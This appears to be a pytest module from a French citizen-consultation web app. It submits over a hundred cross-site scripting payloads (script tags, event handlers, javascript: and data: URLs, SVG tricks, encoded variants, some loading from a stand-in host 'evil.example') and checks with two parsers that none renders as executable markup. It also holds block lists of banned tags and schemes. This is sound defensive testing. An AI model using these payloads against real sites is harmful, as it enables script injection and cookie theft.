"""Cross-site scripting: a corpus of payloads typed as proposal titles, proposal texts and
comments never comes back as executable markup on the rendered pages, while the harmless text
people type ("a < b & c") is kept.

Each page is read twice: with the standard library's html.parser and with html5lib (the parser
bleach vendors, which follows the browsers' parsing algorithm).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from bleach._vendor import html5lib
from sqlalchemy import select

from app.db import db, utcnow
from app.users.models import Role
from participation.citizen import services
from participation.citizen.models import Comment, Proposal
from tests import factories

BANNED_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "frame",
    "frameset",
    "applet",
    "base",
    "template",
    "portal",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcdoc",
    "lowsrc",
    "dynsrc",
    "codebase",
    "cite",
}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:", "livescript:")
#: ASCII whitespace and control characters, which browsers skip inside a URL's scheme
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f]+")

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script>alert(document.cookie)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<script type=module>import('https://evil.example')</script>",
    "<<script>alert(1);//<</script>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<script>/*</script>*/alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
EVENTS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('XSS')\">",
    "<IMG SRC=# ONMOUSEOVER=\"alert('xxs')\">",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>survol</div>",
    "<p onclick=alert(1)>cliquez</p>",
    "<a href=https://example.org onclick=alert(1)>lien</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>défile</marquee>",
    "<b onmouseover=alert(1)>gras</b>",
    "<em/onmouseover=alert(1)>italique</em>",
    "<strong\tonclick=alert(1)>fort</strong>",
    "<ul><li onclick=alert(1)>point</li></ul>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    '<div style="width:expression(alert(1))" onmouseenter=alert(1)>',
    "<form><button formaction=javascript:alert(1)>envoyer</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<object data=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<img src=1 onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<p ONLOAD=alert(1) oNcLiCk=alert(2)>casse</p>",
    "<a onpointerenter=alert(1)>pointeur</a>",
]
URLS = [
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="JaVaScRiPt:alert(1)">clic</a>',
    '<a href=" javascript:alert(1)">espace</a>',
    '<a href="jav\tascript:alert(1)">tabulation</a>',
    '<a href="jav&#x09;ascript:alert(1)">entité tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">déc</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data2</a>',
    '<a href="livescript:alert(1)">live</a>',
    "<img src=\"javascript:alert('XSS');\">",
    "<img src=javascript:alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="\x01javascript:alert(1)">ctrl</a>',
    '<a href="java\nscript:alert(1)">ligne</a>',
    "<a href='javascript:alert(1)' title='x'>simple</a>",
    "<a href=javascript:alert(1)>sans guillemets</a>",
    '<a href="https://example.org" title="x" onmouseover="alert(1)">titre</a>',
    "<area href=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "[clic](javascript:alert(1))",
    "javascript:alert(1)",
    '<a href="  &#14;  javascript:alert(1)">espaces</a>',
]
TAGS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLIC</math>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">style</p>',
    '<div style="behavior:url(x.htc)">IE</div>',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x.class></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing><img src=x onerror=alert(1)></listing>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    "<portal src=https://evil.example></portal>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<input type=image src=javascript:alert(1)>",
    "<video poster=javascript:alert(1)></video>",
    "<link rel=import href=https://evil.example/x.html>",
    '<img srcset="x 1x, javascript:alert(1) 2x">',
]
ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}",
    "${alert(1)}",
    "<%= 7*7 %>",
]
BROKEN = [
    '<img src="x" onerror="alert(1)"',
    '<a href="javascript:alert(1)',
    "<script>alert(1)",
    "<<img src=x onerror=alert(1)//<",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<p title="</p><script>alert(1)</script>">',
    '<a title="" onmouseover=alert(1) ">',
    '<div id="x""onclick=alert(1)>',
    "<b <script>alert(1)</script>>",
    "</p></div></article><script>alert(1)</script>",
    "<p>ouvert <em>sans fermer <strong>rien",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<img src=`x`onerror=alert(1)>",
    '<a href="https://example.org"><script>alert(1)</script>lien</a>',
    "<select><option><script>alert(1)</script></option></select>",
]
PAYLOADS = SCRIPTS + EVENTS + URLS + TAGS + ENCODED + BROKEN
HARMLESS = ["a < b & c", "5 > 3 et 2 < 4", "Tom & Jerry", "Question : 1 < 2 ?"]


def test_the_corpus_is_large_enough():
    assert len(set(PAYLOADS)) >= 100, len(set(PAYLOADS))


def _dangerous_url(value: str | None) -> bool:
    cleaned = _IGNORED_IN_SCHEME.sub("", value or "").lower()
    return cleaned.startswith(BAD_SCHEMES) or any(
        scheme in cleaned for scheme in (",javascript:", " javascript:")
    )


def _own_script(tag: str, attrs) -> bool:
    """The platform's own scripts: files of /static/, never inline."""
    return tag == "script" and (attrs.get("src") or "").startswith("/static/")


def _attribute_problems(tag: str, attrs) -> list[str]:
    problems = []
    for name, value in attrs:
        name = (name or "").lower()
        if name.startswith("on"):
            problems.append(f"<{tag} {name}>")
        if name == "style":
            problems.append(f"<{tag} style>")
        if name in URL_ATTRIBUTES and _dangerous_url(value):
            problems.append(f"<{tag} {name}={value!r}>")
        if name == "srcset" and "javascript:" in _IGNORED_IN_SCHEME.sub("", value or "").lower():
            problems.append(f"<{tag} srcset>")
        if tag == "meta" and name == "http-equiv":
            problems.append("<meta http-equiv>")
    return problems


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in BANNED_TAGS and not _own_script(tag, dict(attrs)):
            self.problems.append(f"<{tag}>")
        self.problems.extend(_attribute_problems(tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def problems_in(html: str) -> tuple[list[str], str]:
    """The executable markup found in a page by both parsers, and the page's text."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    problems = list(checker.problems)
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower().rsplit("}", 1)[-1]
        if tag in BANNED_TAGS and not _own_script(tag, element.attrib):
            problems.append(f"html5lib <{tag}>")
        problems.extend(f"html5lib {p}" for p in _attribute_problems(tag, element.attrib.items()))
    return problems, " ".join("".join(checker.text).split())


@pytest.fixture
def corpus(client, org, login):
    """Every payload and harmless text, posted as a proposal (title and text) and a comment."""
    consultation = factories.consultation(org)
    author = factories.user(org, Role.CITIZEN)
    services.save_participant(author, commune_id=None, show_name=True, accept_terms_at=utcnow())
    db.session.commit()
    login(client, author)
    base = f"/consultations/{consultation.slug}"
    for text in PAYLOADS + HARMLESS:
        sent = client.post(
            f"{base}/proposer", data={"title": text[:200], "body": text, "show_name": "y"}
        )
        assert sent.status_code == 302, (text, sent.status_code)
        created = db.session.scalars(select(Proposal).order_by(Proposal.id.desc())).first()
        said = client.post(
            f"{base}/propositions/{created.id}/commentaires", data={"body": text, "show_name": "y"}
        )
        assert said.status_code == 302, (text, said.status_code)
    return consultation, author


def _pages(client, consultation):
    base = f"/consultations/{consultation.slug}"
    page, urls = 1, []
    while True:
        url = f"{base}?page={page}"
        listing = client.get(url)
        urls.append((url, listing))
        if 'rel="next"' not in listing.text:
            break
        page += 1
    for proposal in db.session.scalars(select(Proposal).order_by(Proposal.id)):
        url = f"{base}/propositions/{proposal.id}"
        urls.append((url, client.get(url)))
    return urls


def test_no_payload_comes_back_executable(client, org, login, corpus):
    consultation, author = corpus
    assert db.session.query(Proposal).count() == len(PAYLOADS + HARMLESS)
    assert db.session.query(Comment).count() == len(PAYLOADS + HARMLESS)
    pages = _pages(client, consultation)
    pages.append(("/consultations/mon-profil", client.get("/consultations/mon-profil")))
    # the moderators' pages show the same texts
    login(client, factories.user(org, Role.ADMIN))
    for proposal in db.session.scalars(select(Proposal).order_by(Proposal.id).limit(40)):
        url = f"/consultations/moderation/proposal/{proposal.id}"
        pages.append((url, client.get(url)))
    for comment in db.session.scalars(select(Comment).order_by(Comment.id).limit(40)):
        url = f"/consultations/moderation/comment/{comment.id}"
        pages.append((url, client.get(url)))
    found = {}
    for url, response in pages:
        assert response.status_code == 200, url
        problems, _text = problems_in(response.text)
        if problems:
            found[url] = problems
    assert not found, found


def test_harmless_text_is_kept_as_typed(client, corpus):
    consultation, _author = corpus
    base = f"/consultations/{consultation.slug}"
    for text in HARMLESS:
        proposal = db.session.scalar(select(Proposal).where(Proposal.title == text))
        page = client.get(f"{base}/propositions/{proposal.id}")
        problems, words = problems_in(page.text)
        assert not problems
        # the title, the text and the comment: three times
        assert words.count(text) >= 3, (text, words)


def test_the_checker_finds_executable_markup():
    """The checks themselves catch what they must (a test of the test)."""
    for bad in (
        "<script>x</script>",
        "<a href=' jav&#x09;ascript:x'>",
        "<img src=x onerror=y>",
        "<iframe></iframe>",
        "<svg></svg>",
        "<object></object>",
        "<embed>",
        "<style></style>",
        "<a href='data:text/html,x'>",
        "<form action='vbscript:x'>",
    ):
        problems, _ = problems_in(f"<p>{bad}</p>")
        assert problems, bad
    assert problems_in("<p>a &lt; b &amp; c</p>") == ([], "a < b & c")
